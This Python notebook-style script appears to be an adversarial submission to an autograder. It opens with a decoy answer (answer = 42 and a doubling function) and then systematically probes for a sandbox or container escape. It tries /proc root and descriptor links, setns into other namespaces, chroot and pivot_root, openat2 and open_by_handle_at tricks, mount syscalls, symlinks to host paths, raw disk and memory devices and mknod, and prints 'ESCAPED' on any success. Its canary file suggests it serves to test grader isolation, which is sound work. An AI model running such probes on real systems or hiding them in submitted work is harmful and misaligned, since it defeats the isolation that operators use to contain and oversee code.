# %%
import ctypes
import os
import struct

answer = 42


def double(x):
    return 2 * x


libc = ctypes.CDLL(None, use_errno=True)
CANARY = "tmp/grader-adversaries-canary"


def seen(name, path_or_fd):
    """Whether something that only the host has can be seen from there."""
    try:
        names = os.listdir(path_or_fd)
    except OSError:
        return
    if {"var", "boot", "etc"} <= set(names) or "grader-adversaries-canary" in names or "var" in names:
        print("ESCAPED:", name, names)


# %%
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
    for link in ("root", "cwd", "root/..", "cwd/../../..", "root/proc/1/root", "fd"):
        seen(f"/proc/{pid}/{link}", f"/proc/{pid}/{link}")
    for number in range(300):
        try:
            link = os.readlink(f"/proc/{pid}/fd/{number}")
        except OSError:
            continue
        if link.startswith("/") and os.path.isdir(f"/proc/{pid}/fd/{number}"):
            seen(f"descriptor {number} of {pid}, {link}", f"/proc/{pid}/fd/{number}/../../../..")
    for kind in ("mnt", "user", "pid", "net", "ipc", "uts", "cgroup"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, 0) == 0:
            print("ESCAPED: setns", kind, pid)

# %%
top = os.open("/", os.O_RDONLY)
for step in range(40):  # above the root
    top = os.open("..", os.O_RDONLY, dir_fd=top)
seen("openat(..)", top)
os.chdir("/")
for call, args in (("chroot", (b".",)), ("chroot", (b"/tmp",)), ("pivot_root", (b".", b"."))):
    number = {"chroot": 161, "pivot_root": 155}[call]
    if libc.syscall(number, *args) == 0:
        print("ESCAPED:", call)
for flags in (0x08, 0x10, 0x02, 0x20):  # RESOLVE_BENEATH, RESOLVE_IN_ROOT, RESOLVE_NO_MAGICLINKS, RESOLVE_CACHED
    how = struct.pack("QQQ", os.O_RDONLY, 0, flags)
    fd = libc.syscall(437, top, b"../../../../" + CANARY.encode(), how, len(how))
    if fd >= 0:
        print("ESCAPED: openat2", flags)
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
if libc.syscall(303, -100, b"/usr", handle, ctypes.byref(mount), 0) == 0:
    print("ESCAPED: name_to_handle_at")
for inode in (2, 64, 128, 256):  # the root directory of ext4, xfs, btrfs
    guess = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0) + bytes(120))
    fd = libc.syscall(304, os.open("/usr", os.O_RDONLY), guess, os.O_RDONLY)
    if fd >= 0:
        seen("open_by_handle_at", fd)
for number, name in ((428, "open_tree"), (430, "fsopen"), (433, "fspick"), (165, "mount"), (166, "umount2")):
    if libc.syscall(number, b"/usr", b"/tmp", b"none", 4096, None) >= 0:
        print("ESCAPED:", name)
os.chdir("/home/student")

# %%
made = []
for name, target in (("up", "../../../../.."), ("proc", "/proc/1/root"), ("canary", "/" + CANARY), ("dev", "/dev/sda")):
    os.symlink(target, name)
    made.append(name)
    seen(name, name + "/")
    try:
        with open(name, "rb") as file:
            print("ESCAPED:", name, file.read(20))
    except OSError:
        pass
for path in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/fuse", "/dev/kvm", "/dev/loop-control"):
    if os.path.lexists(path):
        print("ESCAPED:", path)
for major, minor in ((254, 0), (8, 0), (1, 1), (10, 229)):
    try:
        os.mknod("device", 0o60600, os.makedev(major, minor))
        print("ESCAPED: mknod", major, minor)
    except OSError:
        pass
print("TRIED")
